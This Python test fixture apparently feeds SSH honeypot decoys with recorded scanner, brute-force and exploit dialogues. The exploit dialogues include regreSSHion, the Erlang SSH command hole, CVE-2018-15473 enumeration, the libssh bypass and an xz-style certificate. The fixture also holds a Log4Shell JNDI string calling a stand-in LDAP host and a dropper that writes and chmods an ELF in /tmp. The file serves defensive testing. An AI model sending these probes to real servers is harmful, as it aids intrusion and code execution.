# SPDX-License-Identifier: MIT
"""Dialogues of today's clients, scanners and exploits as they send them whole, written before the decoys were seen."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from tests.decnet_decoys.ssh.dialogues.connected import EOF, data, executed, packet, path
from tests.decnet_decoys.ssh.dialogues.dialogues import OPEN, SERVICE, asked, everywhere, keyed, opened, password
from tests.decnet_decoys.ssh.dialogues.logging_in import rsa
from tests.decnet_decoys.ssh.dialogues.play_steps import HEAR, ClearStep, Dialogue, logs_in
from tests.decnet_decoys.ssh.dialogues.raw_client import framed, kexinit, number, request, string

_CURVES = b"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521"
_GROUPS = b"diffie-hellman-group14-sha256,diffie-hellman-group16-sha512,diffie-hellman-group14-sha1"
_OLD = b"diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1"
_KEYS = b"ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256,ssh-rsa,ssh-dss"
_GO = (b"aes128-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr",) * 2
_CBC = (b"aes256-cbc,aes128-cbc,3des-cbc,blowfish-cbc,arcfour",) * 2
_MODERN = (b"hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1,hmac-sha1-96",) * 2
_SHA1 = (b"hmac-sha1,hmac-md5",) * 2


def _begins(version: bytes, offer: bytes, *more: bytes) -> list[ClearStep]:
    return [version + b"\r\n", framed(offer), *map(framed, more)]


_GO_OFFER = kexinit(_CURVES + b"," + _GROUPS, _KEYS, _GO, _MODERN)

BEFORE_KEYS: Mapping[str, Sequence[ClearStep]] = {
    "Go's client": _begins(b"SSH-2.0-Go", _GO_OFFER),
    "zgrab": _begins(b"SSH-2.0-ZGrab ZGrab SSH Survey", _GO_OFFER),
    "libssh2 of old": _begins(b"SSH-2.0-libssh2_1.4.3", kexinit(_OLD, b"ssh-rsa,ssh-dss", _CBC, _SHA1)),
    "libssh2 of today": _begins(
        b"SSH-2.0-libssh2_1.11.0", kexinit(_CURVES + b",ext-info-c,kex-strict-c-v00@openssh.com", _KEYS, _GO, _MODERN)
    ),
    "JSch": _begins(b"SSH-2.0-JSCH-0.1.54", kexinit(_OLD, b"ssh-rsa,ssh-dss,ecdsa-sha2-nistp256", _CBC, _SHA1)),
    "nmap's question for DSA": _begins(
        b"SSH-2.0-Nmap-SSH2-Hostkey", kexinit(_OLD, b"ssh-dss", (b"aes128-cbc,3des-cbc",) * 2, _SHA1)
    ),
    "nmap's algorithms": _begins(b"SSH-2.0-Nmap_SSH2_Enum_Algos", kexinit(_OLD, b"ssh-dss,ssh-rsa", _CBC, _SHA1)),
    "paramiko's guess of a group": _begins(
        b"SSH-2.0-paramiko_2.1.3",
        kexinit(b"diffie-hellman-group-exchange-sha256", _KEYS, _GO, _SHA1),
        b"\x22" + number(1024) + number(2048) + number(8192),
    ),
    "regreSSHion's first packet": [
        b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1\r\n",
        framed(kexinit()),
        number(0x2000) + b"\4\x1e" + bytes(200),
    ],
    "Erlang's hole": _begins(
        b"SSH-2.0-OpenSSH_8.9",
        kexinit(),
        b"\x5a" + string(b"session") + number(0) + number(0x68000) + number(0x10000),
        asked(0, b"exec", string(b'os:cmd("id").')),
    ),
    "Terrapin's scanner": _begins(
        b"SSH-2.0-TerrapinVulnerabilityScanner",
        kexinit(_CURVES, _KEYS, (b"chacha20-poly1305@openssh.com",) * 2, _MODERN),
    ),
    "masscan": [b"SSH-2.0-OPENSSH\r\n", b"\n\n"],
    "MGLNDD": [b"MGLNDD_192.0.2.1_22\n"],
    "an RDP cookie": [b"\x03\0\0\x2f\x2a\xe0\0\0\0\0\0Cookie: mstshash=Administr\r\n\x01\0\x08\0\3\0\0\0"],
    "a proxy's header": [b"PROXY TCP4 192.0.2.1 192.0.2.2 5 22\r\nSSH-2.0-x\r\n", framed(kexinit())],
    "SOCKS 5": [b"\5\1\0"],
    "a browser": [b"GET / HTTP/1.1\r\nHost: 192.0.2.1:22\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"],
    "CONNECT": [b"CONNECT 192.0.2.1:22 HTTP/1.1\r\nHost: 192.0.2.1:22\r\n\r\n"],
    "a miner of stratum": [b'{"id":1,"jsonrpc":"2.0","method":"login","params":{}}\n'],
    "ADB": [b"CNXN\0\0\0\1\0\0\x10\0\7\0\0\0\x32\2\0\0\xbc\xb1\xa7\xb1host::\0"],
    "MQTT": [b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00"],
    "JDWP": [b"JDWP-Handshake"],
    "Bitvise's client": [b"SSH-2.0-8.36 FlowSsh: Bitvise SSH Client (Tunnelier) 8.36\r\n", framed(kexinit())],
    "Log4Shell in a version": [b"SSH-2.0-${jndi:ldap://192.0.2.9/a}\r\n", framed(kexinit())],
    "a tunnel of HTTP in one write": [b"SSH-2.0-Go\r\n" + framed(_GO_OFFER)],
    "SSH-2.0-, then a browser": [b"SSH-2.0-x\r\nGET / HTTP/1.1\r\n\r\n"],
}
_MADE = path(b"/tmp/.dialogue-clients")
_FOLDER = path(b"/tmp/.dialogue-folder")
_HANDLE = string(number(0))


def _after(*steps: object) -> Dialogue:
    return Dialogue(steps, login=True)  # type: ignore[arg-type]  # payloads and HEAR


def _wrong(user: bytes, *words: bytes) -> list[bytes]:
    return [password(user, word) for word in words]


KEYED: Mapping[str, Dialogue] = {
    "hydra's six": Dialogue([SERVICE, request(b"nosuchuser", b"none"), *_wrong(b"nosuchuser", *[b"123456"] * 6)]),
    "a list of names on one connection": Dialogue(
        [SERVICE, *_wrong(b"nosuchuser", b"admin"), *_wrong(b"oracle", b"oracle"), *_wrong(b"test", b"test")]
    ),
    "CVE-2018-15473": Dialogue([SERVICE, request(b"nosuchuser", b"publickey", b"\1" + string(b"ssh-rsa")[:7])]),
    "CVE-2016-6210": Dialogue([SERVICE, password(b"nosuchuser", b"A" * 25000)]),
    "libssh's hole": Dialogue([SERVICE, b"\x34", OPEN, executed(b"id")]),
    "a backdoor's key": Dialogue([SERVICE, request(b"nosuchuser", b"none"), keyed(b"rsa-sha2-512", rsa(2048))]),
    "the certificate of xz": Dialogue(
        [
            SERVICE,
            keyed(
                b"ssh-rsa-cert-v01@openssh.com",
                string(b"ssh-rsa-cert-v01@openssh.com") + string(bytes(32)) + string(b"\1\0\1") + string(b"\x7f" * 256),
            ),
        ]
    ),
    "nmap's methods": Dialogue([SERVICE, request(b"root", b"none"), b"\1" + number(11) + string(b"bye") + string(b"")]),
    "a password, then keyboard-interactive": Dialogue(
        [SERVICE, *_wrong(b"nosuchuser", b"x"), request(b"nosuchuser", b"keyboard-interactive", string(b"") * 2)]
    ),
    "a bot's first command": _after(
        OPEN, asked(0, b"env", string(b"LC_ALL") + string(b"C"), reply=False), executed(b"echo -n ok; exit 7"), EOF
    ),
    "two commands on two channels": _after(
        OPEN, executed(b"echo a"), HEAR, opened(b"session"), asked(0, b"exec", string(b"echo b >&2"))
    ),
    "a shell by a bot": _after(OPEN, asked(0, b"shell"), data(b"echo a$((6*7))b\nexit 3\n"), HEAR),
    "a shell that is left by its end": _after(OPEN, asked(0, b"shell"), data(b"false\n"), EOF),
    "a script by its input": _after(OPEN, executed(b"sh"), data(b"for i in 1 2 3; do echo $i; done\n"), EOF),
    "a dropper by its input": _after(
        OPEN,
        executed(b"cat > /tmp/.dialogue-drop && chmod 755 /tmp/.dialogue-drop && wc -c < /tmp/.dialogue-drop"),
        data(b"\x7fELF" + bytes(range(256)) * 20),
        EOF,
        HEAR,
    ),
    "base64 by its input": _after(OPEN, executed(b"base64 -d | cat -A"), data(b"aGVsbG8Kd29ybGQK\n"), EOF),
    "scp that uploads": _after(
        OPEN, executed(b"scp -t /tmp/.dialogue-scp"), HEAR, data(b"C0755 5 x\n"), HEAR, data(b"hello\0"), HEAR, EOF
    ),
    "scp that uploads with times": _after(
        OPEN,
        executed(b"scp -p -t /tmp/.dialogue-scp2"),
        HEAR,
        data(b"T1718265601 0 1718265601 0\n"),
        HEAR,
        data(b"C0644 3 y\n"),
        HEAR,
        data(b"abc\0"),
        HEAR,
        EOF,
    ),
    "scp of a tree": _after(
        OPEN,
        executed(b"scp -r -t /tmp"),
        HEAR,
        data(b"D0755 0 .dialogue-tree\n"),
        HEAR,
        data(b"C0644 1 a\n"),
        HEAR,
        data(b"a\0"),
        HEAR,
        data(b"E\n"),
        HEAR,
        EOF,
    ),
    "scp that fetches": _after(
        OPEN,
        executed(b"printf hello > /tmp/.dialogue-get"),
        HEAR,
        OPEN,
        executed(b"scp -f /tmp/.dialogue-get"),
        data(b"\0"),
        HEAR,
        data(b"\0"),
        HEAR,
        data(b"\0"),
    ),
    "sftp that uploads": _after(
        OPEN,
        asked(0, b"subsystem", string(b"sftp")),
        data(packet(1, number(3), identifier=None)),
        HEAR,
        data(packet(3, _MADE, number(0x1A), number(4) + number(0o644))),
        HEAR,
        data(packet(6, _HANDLE, number(0), number(0), string(b"hello"))),
        HEAR,
        data(packet(10, _HANDLE, number(4) + number(0o755))),
        HEAR,
        data(packet(4, _HANDLE)),
        HEAR,
        data(packet(13, _MADE)),
        HEAR,
        EOF,
    ),
    "sftp that lists nothing": _after(
        OPEN,
        asked(0, b"subsystem", string(b"sftp")),
        data(packet(1, number(3), identifier=None)),
        HEAR,
        data(packet(14, _FOLDER + number(0))),
        HEAR,
        data(packet(11, _FOLDER)),
        HEAR,
        data(packet(4, _HANDLE)),
        HEAR,
        data(packet(15, _FOLDER)),
        HEAR,
    ),
    "a shell and sftp on one connection": _after(
        OPEN,
        executed(b"echo a"),
        HEAR,
        opened(b"session"),
        asked(0, b"subsystem", string(b"sftp")),
        data(packet(1, number(3), identifier=None)),
    ),
    "a tunnel of a spammer": _after(
        opened(b"direct-tcpip", string(b"127.0.0.1") + number(1) + string(b"0.0.0.0") + number(0)),
        HEAR,
        data(b"EHLO x\r\n"),
    ),
    "OpenSSH's client, to its end": _after(
        everywhere(b"no-more-sessions@openssh.com", reply=False),
        OPEN,
        HEAR,
        asked(0, b"env", string(b"LANG") + string(b"en_US.UTF-8"), reply=False),
        executed(b"true"),
        HEAR,
        b"\1" + number(11) + string(b"disconnected by user") + string(b""),
    ),
    "keepalives of a client": _after(
        OPEN,
        executed(b"cat"),
        HEAR,
        *[everywhere(b"keepalive@openssh.com")] * 2,
        asked(0, b"keepalive@openssh.com"),
        HEAR,
        EOF,
    ),
    "an agent, X and a command": _after(
        OPEN,
        asked(0, b"auth-agent-req@openssh.com"),
        asked(
            0,
            b"x11-req",
            b"\0" + string(b"MIT-MAGIC-COOKIE-1") + string(b"00112233445566778899aabbccddeeff") + number(0),
        ),
        executed(b"echo a"),
    ),
    "the right password, then a bot's shell": Dialogue(
        [SERVICE, logs_in(), HEAR, OPEN, HEAR, asked(0, b"exec", string(b"echo $-; echo $#"))]
    ),
    "a command of 5,000 letters": _after(OPEN, executed(b"echo " + b"a" * 5000)),
    "a command that says much on both": _after(OPEN, executed(b"seq 3; echo x >&2; exit 9")),
}
